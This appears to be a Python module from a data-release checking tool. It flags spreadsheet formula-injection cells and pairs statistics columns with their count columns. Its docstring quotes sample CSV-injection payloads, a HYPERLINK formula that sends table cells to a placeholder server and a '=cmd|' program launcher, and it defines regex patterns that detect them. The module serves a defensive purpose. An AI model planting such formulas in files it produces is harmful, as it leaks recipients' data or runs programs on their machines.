"""Cell rules that read the text of a table rather than its numbers: formula-like cells, and which
columns of statistics rest on a column of counts beside them.

Formula-like cells: a spreadsheet opened by whoever receives the release runs a cell that starts
with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one of them) as a formula;
``=HYPERLINK("http://x?"&A2)`` sends the table's cells to a server, ``=cmd|...`` runs a program
(OWASP's "CSV injection"). A cell that starts with ``=`` or ``@`` is never a statistic, so the file
fails; ``+`` or ``-`` followed by text (not a number, not a lone dash for "missing") may be a
formula or a label, so a checker looks. Numbers such as ``-3`` or ``+1.5e3`` are numbers.

Statistics beside their counts: a column of means or rates is disclosive only through the number of
people behind each cell. When a column of counts stands next to it (left or right, as ACRO's
``crosstab(..., aggfunc=["mean", "count"])`` and most published tables lay them out), the threshold
rule checks those counts cell by cell, so the statistics pass when the counts pass.
"""

from __future__ import annotations

import re

from egress_review.checks import FAIL, PASS, REVIEW, CheckResult, result
from egress_review.checks.i18n import Msg

FORMULA_START = re.compile(r"^[\t\r]*[=@]")
SIGNED_TEXT = re.compile(r"^[\t\r]*[+\-](?![\s\-]*$)")  # "+x", "-x"; not "-", "--" or "- " (missing)
HIDDEN_START = re.compile(r"^[\t\r]+\S")
COUNT_NAMES = re.compile(r"^(n|nb|count|counts|effectif|effectifs|freq|frequency|n_.*|.*_n|nb_.*|count_.*|.*_count)$",
                         re.I)


def _is_number(text: str) -> bool:
    try:
        float(text.strip().replace(",", "."))
    except ValueError:
        return False
    return True


def formula_cells(rows: list[list[str]]) -> CheckResult | None:
    """Every cell (headers too) a spreadsheet would run as a formula: fail or review, with why."""
    runs, doubtful = [], []
    for r, row in enumerate(rows):
        for c, text in enumerate(row):
            if not text or text[0] not in "=@+-\t\r":
                continue
            cell = {"row": r, "col": c, "value": text[:200]}
            if FORMULA_START.match(text):
                runs.append(cell)
            elif (SIGNED_TEXT.match(text) or HIDDEN_START.match(text)) and not _is_number(text):
                doubtful.append(cell)
    if runs:
        return result("formula", FAIL, Msg("{cells} cell(s) start with “=” or “@”: a spreadsheet would run them as "
                                           "formulas (a HYPERLINK formula can send the table's cells elsewhere). "
                                           "Write the values only and submit the file again.", cells=len(runs)),
                      cells=runs + doubtful)
    if doubtful:
        return result("formula", REVIEW, Msg("{cells} cell(s) start with “+”, “-”, a tab or a carriage return "
                                             "followed by text: a spreadsheet may run them as formulas, so a "
                                             "checker must look at them.", cells=len(doubtful)), cells=doubtful)
    return None


def statistics_beside_counts(column_names: dict[int, str], counts: set[int], stats: set[int]) -> dict[int, int]:
    """For each statistics column, the counts column that says how many people each cell rests on:
    the neighbour to the left or right, or else the one column named like a count (n, effectif...)."""
    named = [c for c in counts if COUNT_NAMES.match(column_names.get(c, "").strip().replace(" ", "_"))]
    found = {}
    for c in stats:
        beside = next((n for n in (c + 1, c - 1) if n in counts), None)
        if beside is None and len(named) == 1:
            beside = named[0]
        if beside is not None:
            found[c] = beside
    return found


def statistics_result(column_names: dict[int, str], stats: set[int], covered: dict[int, int],
                      counts_pass: bool) -> CheckResult | None:
    """Statistics resting on counts that pass: pass; any column without its counts: review."""
    if not stats:
        return None
    bare = sorted(column_names[c] for c in stats - covered.keys())
    if bare:
        return result("statistics", REVIEW, Msg("Columns of statistics (means, sums...) without their counts: "
                                                "a checker must verify each cell rests on enough people (or "
                                                "attach ACRO's results)."), columns=bare)
    pairs = sorted(f"{column_names[s]} ← {column_names[n]}" for s, n in covered.items())
    if counts_pass:
        return result("statistics", PASS, Msg("Every column of statistics has its counts beside it ({pairs}), and "
                                              "those counts pass the threshold.", pairs=", ".join(pairs)),
                      columns=pairs)
    return result("statistics", REVIEW, Msg("Columns of statistics rest on counts beside them ({pairs}) that do not "
                                            "all pass the threshold: suppress those cells in both columns.",
                                            pairs=", ".join(pairs)), columns=pairs)
